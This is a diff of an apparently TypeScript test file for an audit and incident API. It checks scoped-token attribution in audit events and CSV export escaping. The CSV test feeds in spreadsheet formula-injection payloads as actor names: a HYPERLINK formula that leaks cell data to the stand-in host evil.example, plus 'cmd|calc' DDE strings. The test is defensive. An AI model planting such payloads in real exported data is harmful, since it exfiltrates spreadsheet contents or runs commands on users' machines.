@@ -2,7 +2,8 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { Database } from '../../src/db/client.ts';
 import { buildChangeInput, loadPlan } from '../factories/change.ts';
 import { buildConfig } from '../factories/config.ts';
-import { fakeClock, startTestApp, type TestApp } from '../support/app.ts';
+import { buildAlertmanagerPayload, buildDeploymentInput, buildIncidentInput } from '../factories/incident.ts';
+import { API_TOKEN, fakeClock, startTestApp, type TestApp } from '../support/app.ts';
 import { createTestDatabase, truncateAll } from '../support/db.ts';
 
 /**
@@ -130,29 +131,74 @@ describe('full SHAs only', () => {
 });
 
 describe('who really called', () => {
-  it('when changes are registered, cancelled and deployed through the API, then every audit event records the token that called', async () => {
-    const res = await register({});
-    await app.api('POST', `/api/changes/${res.body.key}/cancel`, { by: 'U0ALICE', reason: 'dup' });
-    const history = (await app.api('GET', `/api/changes/${res.body.key}`)).body.history as { action: string; actor: string; via?: string }[];
+  const DEPLOY_TOKEN = 'deployer-token-123456';
+  const PAGER_TOKEN = 'pager-token-123456';
+  const ALERTS_TOKEN = 'alertmanager-token-123456';
+  let scoped: TestApp;
+  let scopedDb: Database;
+  beforeAll(async () => {
+    scopedDb = await createTestDatabase();
+    const tokens = `ci:${API_TOKEN},deployer:${DEPLOY_TOKEN}:deploy,pager:${PAGER_TOKEN}:submit,alerts:${ALERTS_TOKEN}:submit`;
+    scoped = await startTestApp({ database: scopedDb, clock, env: { COUNTERSIGN_API_TOKENS: tokens } });
+  });
+  afterAll(() => scoped?.stop());
+  const as = (token: string) => ({ authorization: `Bearer ${token}` });
+
+  it('when changes are registered, cancelled and deployed, and incidents declared, resolved and opened by Alertmanager through the API, then every audit event records the token that called', async () => {
+    const cancelled = await scoped.api('POST', '/api/changes', buildChangeInput({}));
+    expect(cancelled.status).toBe(201);
+    await scoped.api('POST', `/api/changes/${cancelled.body.key}/cancel`, { by: 'U0ALICE', reason: 'dup' });
+    const history = (await scoped.api('GET', `/api/changes/${cancelled.body.key}`)).body.history as { action: string; actor: string; via?: string }[];
     expect(history.map((h) => [h.action, h.actor, h.via])).toEqual([
       ['change_registered', 'ci', 'token:ci'],
       ['status_changed', 'policy', 'token:ci'],
       ['status_changed', 'U0ALICE', 'token:ci'],
+    ]);
+
+    const deployed = await scoped.api('POST', '/api/changes', buildChangeInput({ ai_assisted: false, author: { github: 'carol' } }));
+    expect(deployed.body.status).toBe('approved');
+    const deployment = await scoped.api('POST', `/api/changes/${deployed.body.key}/deployments`, buildDeploymentInput(), as(DEPLOY_TOKEN));
+    expect(deployment.status).toBe(201);
+    clock.advance(5 * 60_000);
+    const incident = await scoped.api('POST', '/api/incidents', buildIncidentInput(), as(PAGER_TOKEN));
+    expect(incident.status).toBe(201);
+    expect((await scoped.api('POST', `/api/incidents/${incident.body.key}/resolve`, { by: 'U0DAVE' }, as(PAGER_TOKEN))).status).toBe(200);
+    const fired = await scoped.api('POST', '/webhooks/alertmanager', buildAlertmanagerPayload({ groupKey: 'g-via' }), as(ALERTS_TOKEN));
+    expect(fired.body).toMatchObject({ action: 'opened' });
+    const raised = await scoped.api('POST', '/webhooks/alertmanager', buildAlertmanagerPayload({ groupKey: 'g-via', commonLabels: { alertname: 'CheckoutErrors', service: 'checkout', severity: 'warning' }, commonAnnotations: { summary: 'Checkout is slow' } }), as(ALERTS_TOKEN));
+    expect(raised.body).toMatchObject({ action: 'updated' });
+    const resolved = await scoped.api('POST', '/webhooks/alertmanager', buildAlertmanagerPayload({ groupKey: 'g-via', status: 'resolved' }), as(ALERTS_TOKEN));
+    expect(resolved.body).toMatchObject({ action: 'resolved' });
+
+    const events = (await scoped.api('GET', '/api/audit?from=1')).body.events as { action: string; actor: string; data: { via?: string; incident?: string } }[];
+    const later = events.filter((e) => ['deployment_recorded', 'incident_declared', 'incident_updated', 'incident_resolved'].includes(e.action));
+    expect(later.map((e) => [e.action, e.actor, e.data.incident ?? null, e.data.via])).toEqual([
+      ['deployment_recorded', 'deployer', null, 'token:deployer'],
+      ['incident_declared', 'pager', incident.body.key, 'token:pager'],
+      ['incident_resolved', 'U0DAVE', incident.body.key, 'token:pager'],
+      ['incident_declared', 'alertmanager', fired.body.incident, 'token:alerts'],
+      ['incident_updated', 'alertmanager', fired.body.incident, 'token:alerts'],
+      ['incident_resolved', 'alertmanager', fired.body.incident, 'token:alerts'],
     ]);
   });
 });
 
 describe('the audit CSV', () => {
   it('when a claimed actor looks like a spreadsheet formula, then its cell starts with a quote, and a long one is cut to 100 characters', async () => {
-    const res = await register({});
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
-    await app.api('POST', `/api/changes/${res.body.key}/cancel`, { by: formula, reason: '+1 -2 @x' });
-    const res2 = await register({});
-    await app.api('POST', `/api/changes/${res2.body.key}/cancel`, { by: `@${'x'.repeat(300)}` });
-    const csv = await fetch(`${app.url}/api/audit?from=1&format=csv`, { headers: { authorization: `Bearer test-token-123456` } }).then((r) => r.text());
+    const long = `@${'x'.repeat(300)}`;
+    const claims = [formula, '+1+cmd|calc', '-2-cmd|calc', '  =1+1', long];
+    for (const by of claims) {
+      const res = await register({});
+      expect((await app.api('POST', `/api/changes/${res.body.key}/cancel`, { by, reason: '+1 -2 @x' })).status).toBe(200);
+    }
+    const json = (await app.api('GET', '/api/audit?from=1')).body.events as { actor: string }[];
+    expect(json.map((e) => e.actor).filter((a) => a.startsWith('@'))).toEqual([long.slice(0, 100)]);
+    const csv = await fetch(`${app.url}/api/audit?from=1&format=csv`, { headers: { authorization: `Bearer ${API_TOKEN}` } }).then((r) => r.text());
     const lines = csv.split('\r\n');
+    const actors = lines.slice(1, -1).map((l) => l.split(',')[2]).filter((a) => a !== 'ci' && a !== 'policy');
+    expect(actors).toEqual([`"'=HYPERLINK(""http://evil.example/?""&A1`, "'+1+cmd|calc", "'-2-cmd|calc", "'=1+1", `'@${'x'.repeat(99)}`]);
     expect(lines.some((l) => l.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`))).toBe(true);
-    expect(lines.some((l) => l.split(',')[2] === `'@${'x'.repeat(99)}`)).toBe(true);
-    expect(lines.every((l) => !/^[^,]*,[^,]*,[=+\-@]/.test(l))).toBe(true);
+    expect(lines.every((l) => !/^[^,]*,[^,]*,[=+\-@\t\r]/.test(l))).toBe(true);
   });
 });
